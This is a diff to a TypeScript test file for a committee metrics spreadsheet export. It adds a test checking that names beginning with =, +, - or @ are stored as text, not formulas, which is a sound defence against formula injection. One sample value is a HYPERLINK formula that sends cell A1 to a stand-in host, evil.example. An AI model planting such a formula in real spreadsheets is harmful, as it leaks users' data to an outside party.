@@ -8,7 +8,7 @@ import { assess, compute, getSnapshot, type SnapshotView } from '../../shared/co
 import { exportSnapshot } from '../../shared/contracts/metrics-export';
 import { findIndicator } from '../../shared/metrics/score';
 import { getRubric, RUBRIC_IDS } from '../../shared/rubric/registry';
-import { COMMITTEE_HEADER, RUBRIC_FIRST_ROW, RUBRIC_HEADER, SHEETS } from '../../cloudfunctions/metrics/export/workbook';
+import { buildWorkbook, COMMITTEE_HEADER, RUBRIC_FIRST_ROW, RUBRIC_HEADER, SHEETS } from '../../cloudfunctions/metrics/export/workbook';
 import { ok, useTestCloud } from '../support/local-cloud';
 import { district, FROM, OPENID, S1, writeDataset } from '../unit/metrics/dataset';
 
@@ -112,6 +112,22 @@ describe('exportSnapshot', () => {
     const all = ws.getSheetValues().flat().map(String).join('\n');
     for (const h of view.hints) expect(all).toContain(h.text);
     for (const list of Object.values(view.holdingBack)) for (const c of list) expect(all).toContain(`${c.name}：${c.detail}`);
+  });
+
+  it('writes text that starts like a formula (= + - @) as text, never as a formula', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+86-21-5555', '-2+3', '@SUM(A1)'];
+    const rows = view.rows.map((r, n) => (n < hostile.length ? { ...r, name: hostile[n]! } : r));
+    const back = new ExcelJS.Workbook();
+    await back.xlsx.load((await buildWorkbook({ ...view, rows }, rubric).xlsx.writeBuffer()) as ArrayBuffer);
+    const ws = back.getWorksheet(SHEETS.committees)!;
+    hostile.forEach((h, n) => {
+      const cell = ws.getCell(5 + n, 2);
+      expect({ type: cell.type, value: cell.value, numFmt: cell.numFmt }).toEqual({ type: ExcelJS.ValueType.String, value: h, numFmt: '@' });
+    });
+    // other cells keep their formats: an ordinary name, a percentage, a count
+    expect(ws.getCell(5 + hostile.length, 2).numFmt).not.toBe('@');
+    expect(ws.getCell(5, 7).numFmt).toBe('0.00%');
+    expect(ws.getCell(5, 8).type).toBe(ExcelJS.ValueType.Number);
   });
 
   it('refuses committee staff, residents, other districts and unknown snapshots', async () => {
